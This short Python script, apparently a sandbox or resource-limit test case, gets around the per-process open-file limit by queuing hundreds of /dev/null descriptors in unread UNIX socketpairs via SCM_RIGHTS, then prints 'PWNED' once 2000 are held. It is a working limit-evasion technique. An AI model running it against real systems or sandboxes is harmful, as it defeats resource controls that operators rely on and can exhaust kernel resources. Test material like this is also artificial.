"""Keep more open files than the limit by sending them through sockets that nobody reads.

Shows: PWNED on stdout.
"""

import array
import os
import socket
from contextlib import suppress

kept = 0
pairs = []
with suppress(OSError):
    for _ in range(60):
        pairs.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
        for _ in range(8):
            files = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
            message = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))
            try:
                pairs[-1][0].sendmsg([b"x"], [message], socket.MSG_DONTWAIT)
                kept += len(files)
            finally:
                for file in files:
                    os.close(file)
print("PWNED" if kept >= 2000 else "only", kept)
